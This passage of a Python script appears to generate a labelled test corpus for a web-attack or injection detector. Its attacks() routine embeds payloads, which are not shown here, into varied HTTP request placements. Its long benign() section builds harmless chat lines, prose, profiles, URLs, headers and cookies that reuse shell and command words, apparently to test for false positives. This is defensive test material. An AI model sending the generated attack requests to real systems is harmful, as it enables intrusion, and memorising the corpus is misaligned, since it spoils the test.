        return _req("POST", post_path, body, f"multipart/form-data; boundary={BOUNDARY}")
    if place == "rs-path":
        prefix = RS_PATH_PREFIXES[i % len(RS_PATH_PREFIXES)]
        return _req("GET", prefix + (str(v) if isinstance(v, Enc) else urllib.parse.quote(v, safe="/")))
    raise ValueError(place)


def _fits(place: str, v: str) -> bool:
    return not (("\r" in v or "\n" in v) and any(t in place for t in LINE_UNSAFE))


def _pick(places: list[str], start: int, v: str) -> str:
    for k in range(len(places)):
        place = places[(start + k) % len(places)]
        if _fits(place, v):
            return place
    raise ValueError(v)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    for t, (category, sub, pool, payloads) in enumerate(TITLES):
        real_pool, rs_pool = POOLS[pool]
        for i, item in enumerate(payloads):
            forced, v = item if isinstance(item, tuple) else (None, item)
            payload = f"{forced}={v}" if forced else str(v)
            if isinstance(v, Uni):
                real_place, rs_place = "json", "rs-json"
            else:
                real_place, rs_place = _pick(real_pool, i + t, v), _pick(rs_pool, i + 2 * t, v)
            real_name = forced or REAL_NAMES[(i + t) % len(REAL_NAMES)]
            rs_name = forced or RS_NAMES[(i + t) % len(RS_NAMES)]
            for place, rec in ((real_place, _real(real_place, real_name, v, i + t, pool)),
                               (rs_place, _rs(rs_place, rs_name, v, i + t))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": place, "payload": payload}


# ---------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently
# ---------------------------------------------------------------------------------------------------------------
SLACK_TEXTS = [
    "who has the id of the staging bucket? need it for the deploy",
    "my cat walked across the keyboard and sent that, sorry",
    "the dir listing on the shared drive is a mess, I'll tidy it up",
    "type the ticket number in the subject line please",
    "for each region we need a separate quota request, if that's ok",
    "if the build fails again, ping me and I'll look",
    "PowerShell 7 is installed on all the Windows runners now",
    "alias for the staging db is stg-db, the history of the rename is in the ticket",
    "bash completion for our CLI ships in the next release",
    "please don't commit your .env file, use the vault instead",
    "the git history is clean now, I squashed the fixups",
    "web config for the IIS box lives in the infra repo",
    "the include paths changed after the refactor, rebuild your IDE index",
    "page 3 of the report has the quarterly numbers",
    "the file you sent is a zip, I can't open it on my phone",
    "template for the release notes is pinned in this channel",
    "our office IP changed to a new block, update the allowlist",
    "docs are at https://docs.example.com/guide, section 4",
    "ping me after lunch, I'm in meetings until 1",
    "whoami? the new intern, hi everyone!",
    "uname says it's an arm64 box, so use the arm image",
    "netstat shows nothing on 8080, the service didn't start",
    "we should kill the old cron job that emails everyone at 3am",
    "shell scripts in ops/ need a review before Friday",
    "the python script reads the CSV and writes a report",
    "perl is still used by the legacy billing job, sadly",
    "curl the health endpoint and paste the output here",
    "wget isn't on the base image, use curl instead",
    "the sleep timer on the TV in the break room is broken",
    "touch base tomorrow about the roadmap?",
    "echo chamber in the design review, we need outside opinions",
    "the history channel documentary about Rome was great",
    "set-up for the offsite: bring a laptop and a charger",
    "Invoke the retro template and fill in your three items",
    "Get-Help is your friend when learning PowerShell",
    "run the tests with `make test`, then `make lint`",
    "ssh into the bastion first, then hop to the db host",
    "find the latest invoice in the finance folder",
    "copy the link to the dashboard and share it with the client",
    "net revenue is up 12% this quarter",
    "systeminfo shows 16GB of RAM on that VM",
    "tasklist on the kiosk PC shows the browser using 2GB",
    "reg edits are not allowed on managed laptops",
    "the for loop in the migration is O(n^2), let's fix that",
    "if exist checks in the old batch files can go once we move to PowerShell",
    "the sqlite db for local dev is in ./data/dev.sqlite3",
    "the sqlite3 shell has dot commands like .tables and .schema, handy for debugging",
    "mail from the SMTP relay bounced, check the RCPT TO address in the logs",
    "IMAP sync for the support inbox is slow today",
    "POP3 is disabled on the mail server, use IMAP",
    "history of the project: started in 2019 as a hack week idea",
    "the !important in the CSS is overriding the theme",
    "great job everyone!! shipped on time!",
    "what's the $PATH on the CI image? node isn't found",
    "the $HOME dir on the runner is tiny, clean the cache",
    "use ${VAR:-default} in the compose file for optional settings",
    "run `npm run build` and check the dist folder",
    "the upload form rejects files over 10 MB",
    "rename report.final.final.docx to something sensible please 😅",
    "the .htaccess rules from the old Apache server are not needed with nginx",
    "web.config transforms are in the release pipeline",
    "the php.ini memory limit was raised to 512M",
    "wp-config settings moved to environment variables",
    "README says to copy .env.example to .env before running",
    "the .git folder shouldn't be in the docker image, add it to .dockerignore",
    "my ssh key expired, who can re-add it to the bastion?",
    "the passwd change prompt on the VPN is confusing users",
    "root cause was a missing index on the orders table",
    "the proc for month-end close is documented in the finance wiki",
    "for /r in the old script walks every subfolder, slow on the NAS",
    "if errorlevel checks in our installer are flaky, see ticket 4411",
    "the boot time on the new laptops is under 10 seconds",
    "win.ini? haven't seen that since Windows 98 😄",
    "shellshock was 2014, we patched bash long ago",
    "the bash version on macOS is ancient, install a newer one with brew",
    "the cmd window closes immediately, add a pause at the end",
    "Start-Process in the deploy script needs -Wait",
    "New-Object for the web client is deprecated, use Invoke-RestMethod",
    "please avoid Invoke-Expression in scripts, security flagged it",
    "http://localhost:8080 is the local dashboard URL",
    "the printer is at 192.168.1.50, add it in settings",
    "see https://www.example.org/file/report.pdf for the full report",
    "the RFI process for the vendor is due Monday",
    "include me in the thread please",
    "the template engine escapes HTML by default",
    "two dots in a path mean the parent directory, that's why the import failed",
    "use ../lib instead of the absolute path in the Makefile",
    "the relative path ./config/app.yml is resolved from the repo root",
    "the dots ... in the log are just progress markers",
    "can someone review PR #512? it's small",
    "the Slack bot replies with the weather for your city",
    "the alias for the support email forwards to the on-call",
    "the pipe | character breaks our CSV export, we need quoting",
    "A && B means both must pass in the CI rule",
    "a || b is the fallback, like a default",
    "semicolons; they're optional in our JS style",
    "backticks `like this` format code in Slack",
    "$(date) in the script prints today's date",
    "the cron syntax */5 * * * * means every five minutes",
    "type C: in the file dialog to jump to the drive",
    "the ftp server for the old partner is finally retired",
    "FOR THE RECORD: the meeting moved to Thursday",
    "IF anyone has a spare HDMI cable, I'm on floor 3",
    "copy that, will do",
    "the dir for uploads is /srv/uploads on the new box",
    "python -m venv .venv and then pip install -r requirements.txt",
    "to see the logs: kubectl logs deploy/api -f",
    "the SQL query is slow, explain says full scan",
    "grep the logs for the request id and send it over",
    "history -c won't clear your zsh history, it's a different file",
    "did you try turning it off and on again?",
    "the cat picture contest winner is Mittens 🐱",
    "quick poll: pizza or tacos for Friday?",
    "happy birthday Jordan! 🎂",
    "the API returns 404 for /api/users/0, expected",
    "the wiki page 'Shell basics' is a good intro for new hires",
    "the sh script in tools/ is posix, no bashisms please",
    "nc is handy for checking if a port is open",
    "the env var for the region is AWS_REGION",
    "set the template path to templates/email/welcome.html",
    "download the file from the shared folder, not from email",
    "the page param in the API is 1-based, not 0-based",
    "who wrote the sleep(5) in the retry loop? 😬",
    "the id column is a UUID now, not an int",
    "the Windows command prompt and PowerShell handle quotes differently",
    "kill -9 should be the last resort, try SIGTERM first",
    "the chmod on the deploy key was too open, fixed to 600",
    "the base64 of the logo is inlined in the email template",
    "our style guide says 'log in' as a verb, 'login' as a noun",
]

PUBLIC_URLS = [
    "https://www.gnu.org/software/bash/manual/bash.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://www.sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://learn.microsoft.com/en-us/iis/configuration/",
    "https://git-scm.com/docs/git-config",
    "https://12factor.net/config",
    "https://github.com/motdotla/dotenv#readme",
    "https://www.php.net/manual/en/function.include.php",
    "https://example.com/page?id=42&file=report.pdf",
    "https://shop.example.com/search?q=cat+food&page=2",
    "https://cdn.example.net/templates/invoice.html",
    "https://files.example.org/downloads/setup.exe",
    "https://intranet.example.com/wiki/Shell_scripting",
    "http://192.168.0.1/",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://maps.google.com/?q=221B+Baker+Street,+London",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://en.wikipedia.org/wiki/Directory_traversal_attack",
    "https://en.wikipedia.org/wiki/Cat_(Unix)",
    "https://docs.python.org/3/library/subprocess.html",
    "https://nodejs.org/api/path.html",
    "https://docs.docker.com/engine/reference/builder/#env",
    "https://kubernetes.io/docs/reference/kubectl/",
    "https://www.example.com/blog/2024/05/why-we-moved-to-powershell-7",
    "https://api.example.com/v2/files?path=reports/2024/q1.csv",
    "https://app.example.com/redirect?next=/dashboard",
    "https://calendar.example.com/event?id=9f2c&view=week",
    "https://www.bbc.co.uk/news/technology-29361794",
    "https://wiki.archlinux.org/title/Bash",
    "https://tldp.org/LDP/abs/html/",
    "https://www.rfc-editor.org/rfc/rfc3986",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Referer",
    "https://docs.github.com/en/get-started/getting-started-with-git/ignoring-files",
    "https://pypi.org/project/python-dotenv/",
    "https://www.npmjs.com/package/shelljs",
    "https://www.imdb.com/title/tt0103064/",
    "https://www.example.org/templates?page=3&include=comments",
]

PROSE = [
    "Cat Stevens", "Id Software", "type 2 diabetes clinic", "Dir. of Engineering", "For Sale", "If Only Bakery",
    "Shell invoice March", "bash party planning", "Alias Grace", "history teacher", "ping pong club", "Echo Park",
    "nice to meet you", "sleep study results", "Curl Up & Dye salon", "Perl Jam tribute band",
    "12 Shell Road, Hastings", "The Old Forge, 3 Mill Lane", "Apt 5, 100 Cat Street", "Unit 7, Pipe Works",
    "Powers Hell's Kitchen", "net user count", "who am I", "find my order", "copy of passport",
    "system admin", "environment team", "process improvement", "kill switch project", "set up meeting",
    "start date", "invoke billing", "expression of interest", "web config team", "include in newsletter",
    "page not found report", "file upload issue", "template request", "document scan", "folder access",
    "root beer order", "path to promotion", "style guide", "lang: fr", "show me the money",
    "Bob's Burgers", "O'Reilly Media", "Smith & Wesson", "AT&T account", "Q&A session",
    "50% off", "price < 100", "3 > 2", "C:", "D: drive", "main street 1/2", "rock & roll",
    "'quoted name'", "\"the best\" review", "question?", "why not!", "a+b", "x=1", "twenty-one",
    "Dr. Who", "Mr. Cat", "the dir", "the cat", "sh", "id card", "ls-1", "w/o", "su chef",
    "ps I love you", "df (diesel fuel)", "top chef", "ip address change", "dd/mm/yyyy",
    "history of mail", "SMTP relay setup", "IMAP folder", "POP3 settings", "RCPT", "HELO",
    "LIST of names", "USER guide", "RETR", "DELE", "data export", "QUIT smoking program",
    "powershell course", "cmd key not working", "for loop exercise", "if statement", "alias email",
    "bang!", "!!", "!important", "wildcard *", "question ???", "curly {braces}", "dollar $5", "$$$",
    "backtick `", "pipe |", "semi;colon", "ampersand &", "caret ^", "tilde ~", "percent 100%",
    ".env", "git", "htaccess", "web.config", "etc", "passwd", "shadow puppets", "proc",
    "bin collection day", "usr", "var", "tmp staffing", "boot camp", "win ini", "system32 error",
]

PROFILES = [
    ("Catherine Idle", "Shell Energy", "14 Bash Street, Dundee DD1 9QJ"),
    ("Dirk Type", "Echo Systems Ltd", "3 Pipe Lane, Leeds LS1 4AP"),
    ("Sid Shell", "Perl & Partners", "221B Baker Street, London NW1 6XE"),
    ("Echo Lee", "Ping Analytics", "1 Infinite Loop, Cupertino, CA 95014"),
    ("Ping Wang", "Netstat Consulting", "88 Queen's Road, Hong Kong"),
    ("Bashir Ahmed", "Alias Media", "Flat 2, 10 Curl Road, Manchester M1 1AA"),
    ("Wilhelm Hoami", "Who Am I Productions", "Hauptstraße 5, 10115 Berlin"),
    ("Kat Cattermole", "The Cat's Whiskers", "7 Whisker Way, Bristol BS1 5TT"),
    ("Dee Dee Ramone", "DD Records", "315 Bowery, New York, NY 10003"),
    ("Sue Doe", "Su Chef Catering", "12 rue de la Paix, 75002 Paris"),
    ("Ron Ifconfig", "IP Holdings", "PO Box 42, Wellington 6140"),
    ("Nate Cmd", "Command & Control Toys", "4 Toy Lane, Nuremberg"),
    ("Hana Powers", "PowerShell Marine", "Pier 39, San Francisco, CA"),
    ("Forrest If", "For If Consulting", "10 Logic Street, Boston MA"),
    ("Lena History", "History Press", "The Mill, Brimscombe Port, Stroud GL5 2QG"),
    ("Al Ias", "Alias Grace Books", "5 Library Row, Toronto ON"),
    ("Tom Touch", "Touch Base PR", "66 Media Street, Sydney NSW 2000"),
    ("Eve Env", "Environment Agency Contractor", "Horizon House, Bristol"),
    ("Gitte Larsen", "Git Consulting ApS", "Nørrebrogade 1, København"),
    ("Peter Passwood", "Passwood Timber", "Sawmill Lane, Hexham"),
    ("Shadow Wu", "Shadow Theatre Co.", "2 Stage Door, Edinburgh"),
    ("Proc Tor", "Proctor & Sons", "Market Square, Ely"),
    ("Etcetera Jones", "Etc. Design", "9 Studio Mews, Brighton"),
    ("Mai Ls", "LS Logistics", "Warehouse 4, Rotterdam"),
    ("Ned Netcat", "Netcat Pet Supplies", "17 Kitten Close, York"),
    ("Priya Shah", "Pipeline Gas Services", "Unit 3, Pipe Works, Sheffield"),
    ("Sam Sleep", "Sleep Well Beds", "Dream Park, Leicester"),
    ("Kim Kill", "Kill Devil Hills Surf Shop", "NC 27948, USA"),
    ("José Núñez", "Fuente & Cía", "Calle Mayor 10, Madrid"),
    ("Zoë O'Brien", "O'Brien's Bar & Grill", "1 Main St, Galway"),
    ("Chen Wei", "Shell Beach Hotel", "Shell Beach, CA 93449"),
    ("Otto Type", "Typewriter Museum", "Typenstraße 2, Wien"),
    ("Lisa Tail", "Head & Tail Hairdressers", "3 High Street, Bath"),
    ("Mike More", "More or Less Ltd", "21 Less Lane, Oxford"),
    ("Ann Head", "Head Office Supplies", "1 Office Park, Reading"),
    ("Dan Date", "Date Night Events", "44 Romance Road, Cardiff"),
    ("Joy Echo", "Echo Valley Farm", "RR 2, Echo, OR 97826"),
    ("Amir Find", "Find My Home Realty", "99 Search Ave, Dubai"),
    ("Ella Copy", "Copy Cat Printing", "8 Print Row, Dublin"),
    ("Ravi Net", "Net Zero Partners", "Green House, Bengaluru"),
    ("Fatima Start", "Start-Up Hub", "Innovation Way, Lagos"),
    ("Nils Reg", "Reg Motors", "Autoweg 3, Stockholm"),
    ("Tara Task", "Task Force Staffing", "5 Work Street, Auckland"),
    ("Ivan Mail", "Mail Boxes Etc.", "Shop 4, Mall Road, Cape Town"),
    ("Greta Imap", "Map & Compass", "Kartenweg 7, Zürich"),
    ("Paul Pop", "Pop Culture Café", "3 Pop Lane, Liverpool"),
    ("Sara Sqlite", "Light Data Co", "Databank 1, Utrecht"),
    ("Victor Vrfy", "Verify Ltd", "11 Check Street, Glasgow"),
    ("Leo Ehlo", "Hello World Tours", "Ocean Drive 5, Miami FL"),
    ("Dora Dir", "Directory Services Inc", "77 Listing Blvd, Austin TX"),
    ("Ben Bin", "Bin There Skip Hire", "Yard 2, Croydon"),
    ("Ursula Usr", "User Research Lab", "Campus 4, Eindhoven"),
    ("Valeria Var", "Var Sports", "Via Roma 8, Milano"),
    ("Tim Tmp", "Temp Staff Agency", "Agency House, Leeds"),
    ("Winnie Ini", "Win Win Games", "Gamer Street 1, Seoul"),
    ("Boot Sandhu", "Boot Barn", "12 Ranch Rd, Calgary AB"),
    ("Config Li", "Config Studio", "Design Quarter, Shanghai"),
    ("Hector Access", "HT Access Ramps", "Ramp Lane 3, Derby"),
    ("Wes Config", "Web Config Ltd", "Server Row 2, Slough"),
    ("Elena Ssh", "Secure Shelf Storage", "Storage Park, Malmö"),
]

UPLOAD_FILES = [
    "report.pdf", "team photo.jpg", "invoice_2024-03.pdf", "avatar.png", "my cat.jpeg", "shell-beach.jpg",
    "Q3 history.xlsx", "config-guide.docx", "meeting notes (final).docx", "passport scan.pdf",
    "IMG_20240501_101500.jpg", "résumé.pdf", "logo@2x.png", "bash-cheatsheet.pdf", "powershell-intro.pptx",
    "htaccess-migration-notes.txt", "web-config-diagram.png", "env-setup.md", "dir-structure.png",
    "type-specimen.pdf", "alias-list.csv", "history-essay.docx", "ping-results.txt", "sqlite-schema.png",
    "mail-merge.xlsx", "cat_on_keyboard.gif", "2024 budget v2.xlsx", "screenshot 2024-06-01 at 10.15.32.png",
    "O'Brien contract.pdf", "plan & budget.pdf",
]

USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Mobile "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-GB) WindowsPowerShell/5.1.19041.4291",
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "python-httpx/0.27.0",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "axios/1.7.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Java/17.0.9",
    "PostmanRuntime/7.39.0",
    "insomnia/9.2.0",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
]

REFERERS = [
    "https://www.google.com/search?q=cat+id+card+replacement",
    "https://intranet.example.com/wiki/Bash_tips?section=history",
    "https://app.example.com/admin/users?page=2&sort=name",
    "https://www.bing.com/search?q=powershell+get-childitem+recurse",
    "https://duckduckgo.com/?q=web.config+rewrite+rules",
    "https://stackoverflow.com/questions/tagged/shell",
    "https://github.com/acme/app/blob/main/.env.example",
    "https://github.com/acme/app/tree/main/templates/include",
    "https://mail.example.com/inbox?folder=INBOX",
    "https://docs.example.com/guide/file-upload?lang=en",
    "https://news.ycombinator.com/item?id=8361574",
    "https://www.reddit.com/r/sysadmin/comments/abc123/for_loops_in_cmd/",
    "https://app.example.com/reports?template=monthly&include=charts",
    "https://example.com/page/3?dir=asc",
    "https://t.co/AbCdEf1234",
    "https://www.linkedin.com/feed/",
    "https://calendar.example.com/event?id=42&type=meeting",
    "https://wiki.example.org/Alias_(email)",
    "https://support.example.com/kb/sqlite-backup",
    "https://shop.example.com/cart?item=cat-tree&qty=1",
]

COOKIES = [
    "session=abc123; theme=dark; lang=en-GB",
    "session=abc123; last_search=cat%20food",
    "session=abc123; prefs=%7B%22dir%22%3A%22rtl%22%7D",
    "session=abc123; tz=Europe%2FLondon",
    "session=abc123; history=%5B1%2C2%2C3%5D",
    "session=abc123; _ga=GA1.2.1234567890.1700000000",
    "session=abc123; consent=analytics%3Dfalse%26ads%3Dfalse",
    "session=abc123; page_size=50; sort=name",
    "session=abc123; template=compact",
    "session=abc123; alias=jdoe",
    "session=abc123; shell=zsh",
    "session=abc123; env=staging",
    "session=abc123; file_view=grid",
    "session=abc123; type=admin-panel",
    "session=abc123; id=42",
    "session=abc123; cmd_palette=open",
    "session=abc123; for_you=1",
    "session=abc123; include_archived=true",
    "session=abc123; path=%2Fadmin%2Fusers",
    "session=abc123; locale=fr_FR; currency=EUR",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from links_and_prose(PUBLIC_URLS, PROSE, NAME, n)
    n = yield from numbered((_get(_query("/api/users", [("q", t), ("page", "1")])) for t in PROSE),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((_json("/api/users/42", {"note": t}) for t in PROSE), f"{NAME}-note", n, "json")
    n = yield from numbered((_json("/api/users", {"name": name, "company": company, "address": address})
                             for name, company, address in PROFILES), f"{NAME}-profile", n, "json")
    uploads = (_req("POST", "/api/users/42/avatar", _multipart([("csrf_token", None, "t0k3n"),
                                                               ("avatar", f, "GIF89a")]),
                    f"multipart/form-data; boundary={BOUNDARY}") for f in UPLOAD_FILES)
    n = yield from numbered(uploads, f"{NAME}-upload", n, "multipart-filename")
    n = yield from numbered((_req("GET", "/api/users?page=1", headers={"User-Agent": ua}) for ua in USER_AGENTS),
                            f"{NAME}-header", n, "header:User-Agent")
    n = yield from numbered((_req("GET", "/api/users?page=1", headers={"Referer": r}) for r in REFERERS),
                            f"{NAME}-header", n, "header:Referer")
    n = yield from numbered((_req("GET", "/api/users?page=1", headers={"Cookie": c}) for c in COOKIES),
                            f"{NAME}-cookie", n, "cookie")
    for text in SLACK_TEXTS[:40]:
        n += 1
        yield {**_form("/admin/users/search", [("csrf_token", "t0k3n"), ("notes", text)]),
               "id": f"{NAME}-adminnote-{n:04d}", "category": "benign", "placement": "form"}


if __name__ == "__main__":
    print_records(attacks(), benign())
